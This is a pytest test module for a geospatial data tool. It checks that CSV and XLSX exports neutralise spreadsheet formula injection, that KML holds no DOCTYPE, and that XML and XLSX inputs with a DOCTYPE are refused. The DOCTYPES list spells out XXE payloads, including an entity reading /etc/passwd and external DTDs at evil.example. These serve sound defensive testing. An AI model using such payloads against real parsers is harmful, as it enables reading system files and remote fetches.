"""What is written for other programs: no cell a spreadsheet runs, numbers still numbers, XML without a DOCTYPE, either way."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import unicodedata
import zipfile
from collections.abc import Iterable
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from defusedxml.ElementTree import fromstring
from hostile.conftest import Counted
from hostile.payloads import FORMULAS, NUMBERS, PAYLOADS

from geo import exports, formats
from geo.atlas import View
from geo.cli import geo as command
from geo.errors import FormatError

TINY = Path(__file__).resolve().parents[1] / "fixtures" / "tiny"
BLOCK = "alda-block-2020-03-04"
TEXTS = (*FORMULAS, *NUMBERS, *(text for _, text in PAYLOADS[::3] if text.isprintable()))


def runs(cell: str) -> bool:
    """Whether a program that drops blanks, what cannot be seen and quotation marks would work the cell out.

    Written apart from the rule of the code: by the categories of Unicode and by what Python takes for a number.
    """
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    bare = cell
    while bare and (unicodedata.category(bare[0])[0] in "ZC" or unicodedata.category(bare[0]) in ("Pi", "Pf") or bare[0] in "\"'"):
        bare = bare[1:]
    try:
        float(cell)
    except ValueError:
        return unicodedata.normalize("NFKC", bare[:1]) in ("=", "+", "-", "@")
    return not cell.isascii()


def armed(cells: Iterable[str]) -> list[str]:
    """Those of the cells that would run as they stand: an apostrophe before all else is what keeps a cell a text."""
    return [cell for cell in cells if not cell.startswith("'") and runs(cell)]


@pytest.fixture(scope="module")
def view() -> View:
    """The made-up atlas with an incident, a place and an actor for each text, which stands in all that may hold text."""
    data = View.load(TINY).dataset
    block, alda, guard = data.incidents[BLOCK], data.places["alda"], data.actors["north-guard"]
    claim = next(claim for _, claim in data.claims if claim.incident == BLOCK)
    source = data.sources["fictional-herald-2020-03-05"]
    made = dataclasses.replace(data, incidents={}, places=dict(data.places), actors=dict(data.actors), claims=[], stories={},
                               sources=dict(data.sources))
    for number, text in enumerate(TEXTS):
        party = block.parties[0].model_copy(update={"actor": f"a-{number}"})
        where = block.places[0].model_copy(update={"place": f"p-{number}", "as_reported": text, "part": text, "bearing": text})
        made.actors[f"a-{number}"] = guard.model_copy(update={"id": f"a-{number}", "name": text, "note": text})
        made.places[f"p-{number}"] = alda.model_copy(
            update={"id": f"p-{number}", "name": text, "names": {"en": [text]}, "note": text})
        made.sources[f"s-{number}"] = source.model_copy(
            update={"id": f"s-{number}", **dict.fromkeys(("title", "publisher", "author", "note"), text)})
        made.incidents[f"i-{number}"] = block.model_copy(update={
            "id": f"i-{number}", "parties": [party, party], "places": [where], "flags": [text, text], "evidence": [text],
            **dict.fromkeys(("title", "summary", "outcome", "note", "when_note", "where_basis"), text)})
        said = dict.fromkeys(("speaker", "says", "locator", "figures_of", "where", "note"), text)
        made.claims.append((f"s-{number}", claim.model_copy(update={"incident": f"i-{number}", "killed": (1, 2), **said})))
    return View(made, folder=TINY)


def test_no_cell_of_a_csv_runs_and_every_text_is_still_there(view: View, counted: Counted) -> None:
    cells, wrong = 0, []
    for to in ("csv", "ucdp", "acled"):
        for table in exports.FORMATS[to].tables:
            rows = list(csv.reader(io.StringIO(exports.content(view, table, to=to).decode(), newline="")))
            cells += sum(map(len, rows))
            wrong += [(to, table, cell) for row in rows for cell in armed(row)]
            whole = {cell for row in rows for cell in row}
            if to == "csv" and table in ("incidents", "places", "claims", "sources"):
                wrong += [(table, "gone", text) for text in TEXTS if (f"'{text}" if runs(text) else text) not in whole]
                wrong += [(table, "changed", text) for text in NUMBERS if text not in whole]
    counted("exports", cases=cells, failed=len(wrong))
    assert wrong == []
    assert len(view.dataset.incidents) == len(TEXTS) > 50


def test_no_cell_of_a_workbook_is_a_formula_and_its_texts_read_back(view: View, tmp_path: Path, counted: Counted) -> None:
    cells, wrong = 0, []
    for table in exports.FORMATS["xlsx"].tables:
        made = exports.content(view, table, to="xlsx")
        book = openpyxl.load_workbook(io.BytesIO(made))
        for row in book[table].iter_rows():
            cells += len(row)
            wrong += [(table, cell.coordinate, cell.value) for cell in row if cell.data_type == "f" or cell.hyperlink
                      or (cell.data_type == "s" and runs(cell.value) and not cell.quotePrefix)]
        names = zipfile.ZipFile(io.BytesIO(made)).namelist()
        wrong += [name for name in names if any(part in name for part in ("external", "vba", "connections", "embeddings"))]
        if table == "incidents":
            (tmp_path / "back.xlsx").write_bytes(made)
    read = formats.read(tmp_path / "back.xlsx").frame
    given = sorted(text.strip() for text in TEXTS)
    wrong += [text for text, back in zip(given, sorted(read["summary"]), strict=True) if text != back]
    numbers = openpyxl.load_workbook(tmp_path / "back.xlsx")["incidents"]
    column = next(cell.column for cell in numbers[1] if cell.value == "lon")
    wrong += [cell.value for (cell,) in numbers.iter_rows(2, None, column, column) if (cell.data_type, cell.value) != ("n", 10.21)]
    counted("exports", cases=cells, failed=len(wrong))
    assert wrong == []


def test_rows_that_an_import_refuses_are_written_as_safely(tmp_path: Path, counted: Counted) -> None:
    heads = ["id", "date", "lat", "lon", *(text for text in FORMULAS if text.strip() == text)]
    with (tmp_path / "bad.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([heads, *([text, "never", "1", "2", *[text] * (len(heads) - 4)] for text in FORMULAS),
                                    ["fine", "2020-01-01", "1", "2", *["x"] * (len(heads) - 4)]])
    done = CliRunner().invoke(command, ["import", str(tmp_path / "bad.csv"), "--on-bad", "skip", "--refused",
                                        str(tmp_path / "refused.csv"), "-o", str(tmp_path / "out.parquet")])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(io.StringIO((tmp_path / "refused.csv").read_text(encoding="utf-8"), newline="")))
    wrong = [cell for row in rows for cell in armed(row)]
    counted("exports", cases=sum(map(len, rows)), failed=len(wrong))
    assert wrong == [] and len(rows) == 1 + len(FORMULAS)


def test_kml_and_geojson_hold_texts_and_nothing_else(view: View, counted: Counted) -> None:
    made = exports.content(view, "incidents", to="kml")
    assert b"<!DOCTYPE" not in made and b"<!ENTITY" not in made
    marks = fromstring(made, forbid_dtd=True).findall(".//{http://www.opengis.net/kml/2.2}Placemark")
    allowed = set("Placemark name description TimeSpan begin end styleUrl ExtendedData Data value Point coordinates".split())
    wrong = [element.tag for mark in marks for element in mark.iter() if element.tag.rpartition("}")[2] not in allowed]
    named = [mark.findtext("{http://www.opengis.net/kml/2.2}name") for mark in marks]
    wrong += [text for text in TEXTS if text not in named]
    # A viewer shows a description as HTML: it holds no tag of its own and no picture to fetch.
    wrong += [text for mark in marks if "<" in (text := mark.findtext("{http://www.opengis.net/kml/2.2}description") or "")]
    features = json.loads(exports.content(view, "incidents", to="geojson"))["features"]
    wrong += [one["id"] for one, text in zip(features, TEXTS, strict=False) if one["properties"]["summary"] not in TEXTS]
    counted("exports", cases=len(marks) * 2 + len(features), failed=len(wrong))
    assert wrong == [] and len(marks) == len(TEXTS)


DOCTYPES = [
    '<!DOCTYPE kml>', '<!DOCTYPE kml []>', '<!DOCTYPE kml [<!ENTITY x "y">]>', '<!DOCTYPE kml SYSTEM "https://evil.example/x.dtd">',
    '<!DOCTYPE kml PUBLIC "-//x" "https://evil.example/x.dtd">', '<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE kml [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]>', '<!DOCTYPE kml [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>',
    '<!-- first --> <!DOCTYPE kml>', '<!DOCTYPE kml [<!ATTLIST kml x CDATA "y">]>',
]
PARTS = ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml",
         "xl/styles.xml", "docProps/core.xml"]


def test_xml_with_a_doctype_is_refused(view: View, tmp_path: Path, counted: Counted) -> None:
    mark = "<kml><Placemark><name>A</name><TimeStamp><when>2020-01-01</when></TimeStamp><Point><coordinates>1,2</coordinates></Point></Placemark></kml>"
    files = {f"{number}-{encoding}.kml": f'<?xml version="1.0" encoding="{encoding}"?>{doctype}{mark}'.encode(encoding)
             for number, doctype in enumerate(DOCTYPES) for encoding in ("utf-8", "utf-16")}
    for name, content in list(files.items()):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            archive.writestr("doc.kml", content)
        files[f"{name}.kmz"] = packed.getvalue()
    book = zipfile.ZipFile(io.BytesIO(exports.content(View.load(TINY), "incidents", to="xlsx")))
    assert set(PARTS) <= set(book.namelist())
    for part in PARTS:
        for number, doctype in enumerate(DOCTYPES):
            packed = io.BytesIO()
            with zipfile.ZipFile(packed, "w") as archive:
                for name in book.namelist():
                    content = book.read(name)
                    if name == part:
                        head, sep, rest = content.rpartition(b"?>")
                        content = head + sep + doctype.encode() + rest
                    archive.writestr(name, content)
            files[f"{number}-{part.replace('/', '-')}.xlsx"] = packed.getvalue()
    read = []
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
        try:
            formats.read(tmp_path / name)
        except FormatError:
            continue
        read.append(name)
    counted("exports", cases=len(files), failed=len(read))
    assert read == []
    (tmp_path / "fine.kml").write_text(mark, encoding="utf-8")
    assert len(formats.read(tmp_path / "fine.kml").frame) == 1
